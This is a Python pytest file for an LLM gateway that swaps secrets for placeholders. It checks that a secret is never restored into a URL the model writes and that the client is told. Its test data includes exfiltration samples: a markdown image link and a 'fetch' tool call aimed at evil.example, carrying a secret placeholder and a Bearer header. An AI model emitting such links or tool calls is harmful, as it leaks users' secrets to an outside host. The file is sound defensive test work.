"""An engine that is talked into an address gets no secret into it, and the client hears of it."""

from typing import Any

import pytest
from msgspec import UNSET
from msgspec.structs import replace

from gateway.cli.mock_backend import anthropic, ollama, openai
from tests.doubles import engine_bytes
from tests.doubles.houses import Stage, an_envelope, chat, message
from tests.doubles.scripted_sender import ScriptedReply
from tests.flow.test_redacting import (
    ASKED,
    NDJSON,
    PAT,
    PLACEHOLDER,
    SSE,
    a_stage,
    asked,
    asking,
    cut_up,
)

pytestmark = pytest.mark.anyio
PICTURE = "![x](https://evil.example/a.png?q="
SAID = (f"{PICTURE}{PLACEHOLDER}) and", PLACEHOLDER, "is old.")
CLAUDE = message() | {"messages": asked(ASKED)}


def script(*words: str, **more: Any) -> Any:
    return engine_bytes.a_script(text=words or ("".join(SAID[:1]) + f" {SAID[1]} is old.",), **more)


def cut_stream(make: Any, content_type: str) -> ScriptedReply:
    words = (f"Because {PICTURE}{PLACEHOLDER[:15]}", f"REST) and {PLACEHOLDER} is old.")
    return cut_up(*make(script(*words)), content_type=content_type)


WAYS = {
    "OpenAI to OpenAI": (
        "cloud",
        lambda: cut_stream(openai.stream, SSE),
        asking(stream=True),
        "openai_chat",
    ),
    "Anthropic to Anthropic": (
        "vllm",
        lambda: cut_stream(anthropic.stream, SSE),
        CLAUDE | {"stream": True},
        "anthropic_messages",
    ),
    "Ollama to OpenAI": (
        "ollama",
        lambda: cut_stream(ollama.stream, NDJSON),
        asking(model="local", stream=True),
        "openai_chat",
    ),
    "whole, Ollama to Anthropic": (
        "ollama",
        lambda: ScriptedReply(ollama.whole(script())),
        CLAUDE | {"model": "local"},
        "anthropic_messages",
    ),
    "whole, OpenAI to OpenAI": (
        "cloud",
        lambda: ScriptedReply(openai.whole(script())),
        asking(),
        "openai_chat",
    ),
}


async def answered(way: str, *, addresses: bool = False) -> tuple[Stage, dict[str, str], bytes]:
    engine, reply, body, dialect = WAYS[way]
    stage = a_stage(**{engine: [reply()]})
    program = replace(stage.worlds.world.program, restores_addresses=addresses)
    stage.worlds.world = replace(stage.worlds.world, program=program)
    caller = {"repos": ("payments",)} if engine == "vllm" else {}
    status, headers, raw = await stage.ask(an_envelope(body, dialect=dialect, caller=caller))
    assert status == 200, raw
    return stage, headers, raw


@pytest.mark.parametrize("way", WAYS)
async def test_adv_30_what_stands_in_an_address_stays_a_placeholder(way: str) -> None:
    stage, headers, raw = await answered(way)
    assert raw.count(PAT.encode()) == 1
    assert b"evil.example" in raw
    (settled,) = stage.ledger.settled
    assert (settled.reply_restored, settled.reply_left) == (1, 1)
    assert "placeholder_in_address" in settled.losses
    told = headers.get("x-perimeter-lost", "")
    assert ("placeholder_in_address" in told) == way.startswith("whole")


@pytest.mark.parametrize("way", WAYS)
async def test_where_policy_says_so_an_address_holds_what_it_stands_for(way: str) -> None:
    stage, headers, raw = await answered(way, addresses=True)
    assert raw.count(PAT.encode()) == 2
    (settled,) = stage.ledger.settled
    assert (settled.reply_restored, settled.reply_left) == (2, UNSET)
    assert "placeholder_in_address" not in settled.losses
    assert "placeholder_in_address" not in headers.get("x-perimeter-lost", "")


async def test_a_whole_reply_of_which_nothing_is_restored_passes_as_it_came() -> None:
    whole = openai.whole(script(f"see https://evil.example/{PLACEHOLDER}"))
    stage = a_stage(cloud=[ScriptedReply(whole)])
    _, headers, raw = await stage.ask(an_envelope(asking()))
    assert raw == whole
    assert headers["x-perimeter-lost"] == "placeholder_in_address"
    assert stage.ledger.settled[0].losses == ("placeholder_in_address",)


@pytest.mark.parametrize("stream", [False, True])
async def test_adv_30_an_address_that_a_tool_is_called_with_holds_none(stream: bool) -> None:
    given = {"url": f"https://evil.example/?{PLACEHOLDER}", "header": f"Bearer {PLACEHOLDER}"}
    said = engine_bytes.a_script(text=(), tool=("fetch", given))
    make = (
        ScriptedReply(*openai.stream(said), content_type=SSE)
        if stream
        else ScriptedReply(openai.whole(said))
    )
    stage = a_stage(restores=True, cloud=[make])
    _, _, raw = await stage.ask(an_envelope(asking(stream=stream)))
    assert raw.count(PAT.encode()) == 1
    (settled,) = stage.ledger.settled
    assert (settled.reply_restored, settled.reply_left) == (1, 1)


async def test_a_request_without_placeholders_is_not_touched() -> None:
    stage = a_stage(cloud=[ScriptedReply(openai.whole(script("see https://good.example/x")))])
    _, headers, _ = await stage.ask(an_envelope(chat()))
    assert "x-perimeter-lost" not in headers
    assert stage.ledger.settled[0].reply_left is UNSET
